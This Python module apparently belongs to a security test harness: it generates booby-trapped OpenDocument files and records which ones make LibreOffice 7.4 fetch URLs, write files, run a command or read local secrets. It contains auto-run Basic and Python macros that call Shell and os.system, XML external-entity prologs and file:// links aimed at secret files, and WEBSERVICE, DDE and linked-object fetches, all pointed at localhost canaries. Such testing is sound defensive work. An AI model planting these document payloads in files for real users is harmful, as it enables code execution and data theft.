"""traps: documents that try something when they are loaded or written out, for every format that can carry it.

Each trap is named FORMAT-WHAT and carries that name in whatever it touches, so that an effect tells its trap: it fetches
http://127.0.0.1:PORT/NAME.EXT, writes SITE/drops/NAME, runs SITE/mark NAME, or reads SITE/secrets/NAME.EXT. `springs` is what an
unlocked LibreOffice 7.4 does with it, seen by trial; empty: nothing, `why` says the reason. Documents alone; who opens them
is table.py.
"""
import dataclasses
from pathlib import Path
from typing import Callable

import package
from package import Ooxml, escaped, odf

FETCH, WRITE, RUN, READ = "fetch", "write", "run", "read"
VISIBLE = "罠の文書"
FAMILY = {"odt": "writer", "ott": "writer", "fodt": "writer", "docx": "writer", "docm": "writer", "dotm": "writer",
          "doc": "writer", "rtf": "writer",
          "ods": "calc", "fods": "calc", "xlsx": "calc", "xlsm": "calc", "xls": "calc", "csv": "calc",
          "odp": "impress", "fodp": "impress", "pptx": "impress", "pptm": "impress", "ppt": "impress", "odg": "draw"}


@dataclasses.dataclass
class Site:
    """Where the traps lead: a directory, and a server on 127.0.0.1."""
    directory: Path
    port: int

    def url(self, name):
        return f"http://127.0.0.1:{self.port}/{name}"

    def drop(self, name):
        return f"{self.directory}/drops/{name}"

    def secret(self, name):
        return f"file://{self.directory}/secrets/{name}"

    def mark(self):
        return f"{self.directory}/mark"


@dataclasses.dataclass
class Trap:
    name: str
    format: str
    kind: str
    make: Callable  # Site -> bytes
    springs: frozenset
    why: str = ""

    @property
    def file(self):
        return f"{self.name}.{self.format}"

    @property
    def family(self):
        return FAMILY[self.format]


TRAPS = []


def trap(kind, formats, springs="", why=""):
    """Registers make(site, name, format) for each format. springs: words; a mapping gives them by format."""
    def register(make):
        for form in formats.split():
            words = springs.get(form, springs.get("", "")) if isinstance(springs, dict) else springs
            name = f"{form}-{kind}"
            TRAPS.append(Trap(name, form, kind, lambda site, n=name, f=form: make(site, n, f), frozenset(words.split()),
                              why if not words else ""))
        return make
    return register


# ---- OpenDocument --------------------------------------------------------------------------------------

TEXTS, SHEETS, SLIDES, DRAWINGS = "odt fodt", "ods fods", "odp fodp", "odg"
ALL_ODF = f"{TEXTS} {SHEETS} {SLIDES} {DRAWINGS}"
PAGE_STYLE = ('<style:page-layout style:name="pm"><style:page-layout-properties fo:page-width="210mm" fo:page-height="297mm"'
              ' fo:margin-top="20mm" fo:margin-bottom="20mm" fo:margin-left="20mm" fo:margin-right="20mm"/></style:page-layout>'
              '<style:style style:name="dp" style:family="drawing-page"/>')
MASTER = '<style:master-page style:name="Default" style:page-layout-name="pm" draw:style-name="dp"/>'
BOX = 'svg:x="20mm" svg:y="30mm" svg:width="60mm" svg:height="40mm"'


def shown(form, inner="", **more):
    """A document that says VISIBLE, with inner where shapes stand: in the paragraph, over the sheet, on the slide."""
    family = FAMILY[form]
    more = {"automatic": PAGE_STYLE + more.pop("automatic", ""), "master": MASTER, **more}
    if family == "writer":
        return odf(form, f"<text:p>{VISIBLE}{inner}</text:p>", **more)
    if family == "calc":
        shapes = inner and f"<table:shapes>{inner}</table:shapes>"
        return odf(form, f'<table:table table:name="表">{shapes}<table:table-row><table:table-cell'
                         f' office:value-type="string"><text:p>{VISIBLE}</text:p></table:table-cell></table:table-row>'
                         '</table:table>', **more)
    return odf(form, f'<draw:page draw:name="p1" draw:master-page-name="Default"><draw:frame {BOX}><draw:text-box><text:p>'
                     f'{VISIBLE}</text:p></draw:text-box></draw:frame>{inner}</draw:page>', **more)


def frame(inner):
    return f'<draw:frame text:anchor-type="as-char" draw:name="f" {BOX}>{inner}</draw:frame>'


def evil_basic(site, name, sub="Main"):
    return (f'Sub {sub}\nOn Error Resume Next\nDim handle As Integer\nhandle = FreeFile\nOpen "{site.drop(name)}" For Output As #handle\n'
            f'Print #handle, "x"\nClose #handle\nShell "{site.mark()}", 0, "{name}"\nDim files\n'
            f'files = CreateUnoService("com.sun.star.ucb.SimpleFileAccess")\nfiles.isFolder("{site.url(name)}")\n'
            'End Sub\n')


SCRIPT = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&location=document"


def basic_trap(event):
    def make(site, name, form):
        return shown(form, basic=evil_basic(site, name), listeners=[(event, SCRIPT)])
    return make


ALL_THREE = "fetch write run"
trap("basic-load", ALL_ODF, ALL_THREE)(basic_trap("dom:load"))
trap("basic-load-finished", ALL_ODF, why="7.4 runs no macro for this event, neither by LibreOfficeKit nor in a hidden view")(
    basic_trap("office:load-finished"))
trap("basic-view", ALL_ODF, ALL_THREE)(basic_trap("office:view-created"))
trap("basic-unload", ALL_ODF, ALL_THREE)(basic_trap("dom:unload"))
trap("basic-saveto", ALL_ODF, ALL_THREE)(basic_trap("office:copy-to"))


@trap("python-load", "odt ods odp", why="Debian's -nogui packages have no script provider for Python")
def _(site, name, form):
    code = f'import os\ndef main(*a):\n open("{site.drop(name)}", "w")\n os.system("{site.mark()} {name}")\n'
    return shown(form, parts={"Scripts/python/t.py": code},
                 listeners=[("dom:load", "vnd.sun.star.script:t.py$main?language=Python&location=document")])


@trap("beanshell-load", "odt ods odp", why="no script provider for BeanShell without Java")
def _(site, name, form):
    return shown(form, parts={"Scripts/beanshell/Library/t.bsh": f'new java.io.File("{site.drop(name)}").createNewFile();'},
                 listeners=[("dom:load", "vnd.sun.star.script:Library.t.bsh?language=BeanShell&location=document")])


@trap("linked-image", ALL_ODF, "fetch")
def _(site, name, form):
    return shown(form, frame(f'<draw:image xlink:href="{site.url(name)}.png" xlink:type="simple" xlink:show="embed"'
                             ' xlink:actuate="onLoad"/>'))


@trap("local-image", ALL_ODF, "read")
def _(site, name, form):
    return shown(form, frame(f'<draw:image xlink:href="{site.secret(name)}.png" xlink:type="simple" xlink:show="embed"'
                             ' xlink:actuate="onLoad"/>'))


@trap("background-image", "odt fodt odp fodp odg", "fetch")
def _(site, name, form):
    link = f'xlink:href="{site.url(name)}.png" xlink:type="simple" xlink:actuate="onLoad"'
    fill = f'<draw:fill-image draw:name="bg" {link}/>'
    if FAMILY[form] == "writer":
        automatic = ('<style:style style:name="P" style:family="paragraph"><style:paragraph-properties fo:background-color='
                     f'"transparent"><style:background-image {link}/></style:paragraph-properties></style:style>')
        return odf(form, f'<text:p text:style-name="P">{VISIBLE}</text:p>', automatic=automatic, styles=fill)
    automatic = ('<style:style style:name="G" style:family="graphic"><style:graphic-properties draw:fill="bitmap"'
                 ' draw:fill-image-name="bg"/></style:style>')
    return shown(form, f'<draw:rect draw:style-name="G" {BOX}/>', automatic=automatic, styles=fill)


@trap("bullet-image", TEXTS, "fetch")
def _(site, name, form):
    automatic = ('<text:list-style style:name="L"><text:list-level-style-image text:level="1"'
                 f' xlink:href="{site.url(name)}.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad">'
                 '<style:list-level-properties fo:width="5mm" fo:height="5mm"/></text:list-level-style-image></text:list-style>')
    return odf(form, f'<text:list text:style-name="L"><text:list-item><text:p>{VISIBLE}</text:p></text:list-item></text:list>',
               automatic=automatic)


@trap("iframe", "odt fodt odp fodp odg ods", why="7.4.7 loads a floating frame only when somebody activates it (CVE-2023-2255)")
def _(site, name, form):
    return shown(form, frame(f'<draw:floating-frame xlink:href="{site.url(name)}.html" xlink:type="simple"'
                             ' xlink:show="embed" xlink:actuate="onLoad"/>'))


@trap("linked-object", ALL_ODF, "fetch")
def _(site, name, form):
    extension = {"writer": "odt", "calc": "ods", "impress": "odp", "draw": "odg"}[FAMILY[form]]
    return shown(form, frame(f'<draw:object xlink:href="{site.url(name)}.{extension}" xlink:type="simple" xlink:show="embed"'
                             ' xlink:actuate="onLoad"/>'))


@trap("media", "odp fodp odt fodt odg", why="a film is fetched when it is played; Debian's -nogui packages have no player")
def _(site, name, form):
    return shown(form, frame(f'<draw:plugin xlink:href="{site.url(name)}.mp4" xlink:type="simple" xlink:show="embed"'
                             ' xlink:actuate="onLoad" draw:mime-type="application/vnd.sun.star.media"/>'))


@trap("slide-sound", SLIDES, why="a sound is fetched when the slide show comes to it")
def _(site, name, form):
    style = ('<style:style style:name="dps" style:family="drawing-page"><style:drawing-page-properties'
             ' presentation:transition-type="automatic" presentation:duration="PT1S">'
             f'<presentation:sound xlink:href="{site.url(name)}.wav" xlink:type="simple" xlink:show="new"'
             ' xlink:actuate="onRequest"/></style:drawing-page-properties></style:style>')
    return odf(form, '<draw:page draw:name="p1" draw:style-name="dps" draw:master-page-name="Default">'
                     f'<draw:frame {BOX}><draw:text-box><text:p>{VISIBLE}</text:p></draw:text-box></draw:frame></draw:page>',
               automatic=PAGE_STYLE + style, master=MASTER)


def section(source):
    return f'<text:p>{VISIBLE}</text:p><text:section text:name="s">{source}<text:p>old</text:p></text:section>'


@trap("section-link", TEXTS, "fetch")
def _(site, name, form):
    return odf(form, section(f'<text:section-source xlink:href="{site.url(name)}.odt" xlink:type="simple"/>'))


@trap("section-local", TEXTS, "read")
def _(site, name, form):
    return odf(form, section(f'<text:section-source xlink:href="{site.secret(name)}.txt" xlink:type="simple"/>'))


@trap("dde-section", TEXTS, "fetch")
def _(site, name, form):
    return odf(form, section(f'<office:dde-source office:name="d" office:dde-application="soffice"'
                             f' office:dde-topic="{site.url(name)}.odt" office:dde-item="bm" office:automatic-update="true"/>'))


@trap("dde-field", TEXTS, "fetch")
def _(site, name, form):
    return odf(form, '<text:dde-connection-decls><text:dde-connection-decl office:name="d" office:dde-application="soffice"'
                     f' office:dde-topic="{site.url(name)}.odt" office:dde-item="bm" office:automatic-update="true"/>'
                     f'</text:dde-connection-decls><text:p>{VISIBLE}<text:dde-connection text:connection-name="d"/></text:p>')


@trap("form-data-source", "odt fodt ods", "fetch")
def _(site, name, form):
    control = ('<form:form form:name="f" form:apply-filter="true" form:command-type="table" form:command="t"'
               f' form:datasource="{site.url(name)}.odb"><form:text form:name="x" xml:id="c1" form:id="c1" form:data-field="a"/>'
               '</form:form>')
    forms = f"<office:forms form:automatic-focus='false' form:apply-design-mode='false'>{control}</office:forms>"
    shape = f'<draw:control draw:control="c1" text:anchor-type="as-char" {BOX}/>'
    if FAMILY[form] == "writer":
        return odf(form, f"{forms}<text:p>{VISIBLE}{shape}</text:p>")
    return odf(form, f'<table:table table:name="t">{forms}<table:shapes>{shape}</table:shapes><table:table-row>'
                     f'<table:table-cell office:value-type="string"><text:p>{VISIBLE}</text:p></table:table-cell></table:table-row>'
                     "</table:table>")


@trap("database-field", TEXTS, why="the data source is asked when fields are updated or letters merged, not when loaded")
def _(site, name, form):
    source = f'text:database-name="{site.url(name)}.odb" text:table-name="t" text:table-type="table"'
    settings = ('<config:config-item-set config:name="ooo:configuration-settings">'
                f'<config:config-item config:name="CurrentDatabaseDataSource" config:type="string">{site.url(name)}.odb'
                '</config:config-item><config:config-item config:name="CurrentDatabaseCommand" config:type="string">t'
                '</config:config-item><config:config-item config:name="CurrentDatabaseCommandType" config:type="int">0'
                "</config:config-item></config:config-item-set>")
    return odf(form, f"<text:p>{VISIBLE}<text:database-next {source}/><text:database-display text:column-name='a' {source}>x"
                     "</text:database-display></text:p>", settings=settings)


@trap("form-submit", TEXTS, why="a form is sent when somebody presses its button, not when it is loaded")
def _(site, name, form):
    return odf(form, f'<office:forms><form:form form:name="f" xlink:href="{site.url(name)}" form:method="get">'
                     '<form:button form:name="b" xml:id="c1" form:id="c1" form:button-type="submit" form:label="送信"/></form:form>'
                     f'</office:forms><text:p>{VISIBLE}<draw:control draw:control="c1" text:anchor-type="as-char" {BOX}/></text:p>')


@trap("macro-link", TEXTS, why="a link is followed when somebody clicks it, not when it is loaded")
def _(site, name, form):
    return odf(form, f'<text:p><text:a xlink:type="simple" xlink:href="macro:///Standard.Module1.Main">{VISIBLE}</text:a></text:p>',
               basic=evil_basic(site, name))


@trap("font-link", ALL_ODF, {"odt": ""}, "7.4 takes fonts from the package alone")
def _(site, name, form):
    face = (f'<style:font-face style:name="Trap" svg:font-family="Trap"><svg:font-face-src><svg:font-face-uri'
            f' xlink:href="{site.url(name)}.ttf" xlink:type="simple"><svg:font-face-format svg:string="truetype"/>'
            "</svg:font-face-uri></svg:font-face-src></style:font-face>")
    return shown(form, fonts=face)


def formula_sheet(form, formula, before="", after="", cell=""):
    return odf(form, f'{before}<table:table table:name="表"><table:table-row><table:table-cell office:value-type="string">'
                     f'<text:p>{VISIBLE}</text:p></table:table-cell><table:table-cell table:formula="{escaped(formula)}"'
                     f' office:value-type="string">{cell}<text:p>old</text:p></table:table-cell></table:table-row></table:table>{after}')


@trap("webservice", SHEETS, "fetch")
def _(site, name, form):
    return formula_sheet(form, f'of:=COM.MICROSOFT.WEBSERVICE("{site.url(name)}.xml")')


@trap("webservice-local", SHEETS, why="WEBSERVICE takes http and https alone")
def _(site, name, form):
    return formula_sheet(form, f'of:=COM.MICROSOFT.WEBSERVICE("{site.secret(name)}.txt")')


@trap("filterxml", SHEETS, "fetch")
def _(site, name, form):
    return formula_sheet(form, f'of:=COM.MICROSOFT.FILTERXML(COM.MICROSOFT.WEBSERVICE("{site.url(name)}.xml");"//a")')


@trap("dde-formula", SHEETS, "fetch")
def _(site, name, form):
    link = (f'<table:dde-links><table:dde-link><office:dde-source office:dde-application="soffice"'
            f' office:dde-topic="{site.url(name)}.ods" office:dde-item="a1" office:automatic-update="true"/>'
            "<table:table><table:table-row><table:table-cell/></table:table-row></table:table></table:dde-link></table:dde-links>")
    return formula_sheet(form, f'of:=DDE("soffice";"{site.url(name)}.ods";"a1")', after=link)


@trap("external-reference", SHEETS, "fetch")
def _(site, name, form):
    return formula_sheet(form, f"of:=['{site.url(name)}.ods'#$Sheet1.A1]")


@trap("external-local", SHEETS, "read")
def _(site, name, form):
    return formula_sheet(form, f"of:=['{site.secret(name)}.ods'#$Sheet1.A1]")


@trap("hyperlink-formula", SHEETS, why="a link is followed when somebody clicks it, not when it is loaded")
def _(site, name, form):
    return formula_sheet(form, f'of:=HYPERLINK("{site.url(name)}";"x")')


@trap("linked-sheet", SHEETS, "fetch")
def _(site, name, form):
    return odf(form, f'<table:table table:name="表"><table:table-source xlink:type="simple" xlink:href="{site.url(name)}.ods"'
                     ' table:table-name="Sheet1" table:filter-name="calc8" table:mode="copy-all" table:refresh-delay="PT1S"/>'
                     f'<table:table-row><table:table-cell office:value-type="string"><text:p>{VISIBLE}</text:p></table:table-cell>'
                     "</table:table-row></table:table>")


@trap("linked-area", SHEETS, "fetch")
def _(site, name, form):
    area = (f'<table:cell-range-source table:name="HTML_all" xlink:type="simple" xlink:href="{site.url(name)}.html"'
            ' table:filter-name="calc_HTML_WebQuery" table:last-column-spanned="1" table:last-row-spanned="1"'
            ' table:refresh-delay="PT1S"/>')
    return formula_sheet(form, "of:=1", cell=area)


@trap("database-range", SHEETS, why="a database range is read again when somebody asks for it")
def _(site, name, form):
    ranges = ('<table:database-ranges><table:database-range table:name="d" table:target-range-address="表.A1:表.B2"'
              ' table:refresh-delay="PT1S"><table:database-source-table table:database-name="' + site.url(name) + '.odb"'
              ' table:database-table-name="t"/></table:database-range></table:database-ranges>')
    return formula_sheet(form, "of:=1", after=ranges)


@trap("entity-local", ALL_ODF, why="the reader of XML resolves no external entities")
def _(site, name, form):
    prolog = f'<!DOCTYPE office:document [<!ENTITY s SYSTEM "{site.secret(name)}.txt">]>\n'
    return shown(form, prolog=prolog).replace(VISIBLE.encode(), f"{VISIBLE}&s;".encode()) if form.startswith("f") else (
        odf(form, f"<text:p>{VISIBLE}&s;</text:p>", prolog=prolog) if FAMILY[form] == "writer" else
        shown(form, f"<draw:rect {BOX}><text:p>&s;</text:p></draw:rect>", prolog=prolog))


@trap("entity-remote", TEXTS, why="the reader of XML resolves no external entities")
def _(site, name, form):
    return odf(form, f"<text:p>{VISIBLE}&s;</text:p>", prolog=f'<!DOCTYPE office:document [<!ENTITY s SYSTEM "{site.url(name)}.txt">]>\n')


@trap("doctype-remote", TEXTS, why="the reader of XML reads no external subset")
def _(site, name, form):
    return odf(form, f"<text:p>{VISIBLE}</text:p>", prolog=f'<!DOCTYPE office:document SYSTEM "{site.url(name)}.dtd">\n')


@trap("xinclude", TEXTS, why="the reader of XML knows no XInclude")
def _(site, name, form):
    return odf(form, f'<text:p>{VISIBLE}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text"'
                     f' href="{site.secret(name)}.txt"/></text:p>')


# ---- what the server and the secret files hold ----------------------------------------------------------

PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415478da6368505000"
                    "0001e400c1d4a6cabb0000000049454e44ae426082")


def answer(path, word="FETCHED"):
    """A well-formed file of the kind that path's ending says, with word as its text where it has one."""
    ending = path.rpartition(".")[2]
    paragraph = f"<text:p>{word}</text:p>"
    cell = f'<table:table-row><table:table-cell office:value-type="string">{paragraph}</table:table-cell></table:table-row>'
    if ending in ("odt", "ott"):
        return odf(ending, f'<text:p><text:bookmark-start text:name="bm"/>{word}<text:bookmark-end text:name="bm"/></text:p>')
    if ending == "ods":
        return odf(ending, f'<table:table table:name="Sheet1">{cell}</table:table>')
    if ending in ("odp", "odg"):
        return shown(ending).replace(VISIBLE.encode(), word.encode())
    return {"png": PNG, "html": f"<html><body><p>{word}</p><table><tr><td>{word}</td></tr></table></body></html>".encode(),
            "xml": f"<r><a>{word}</a></r>".encode()}.get(ending, word.encode())
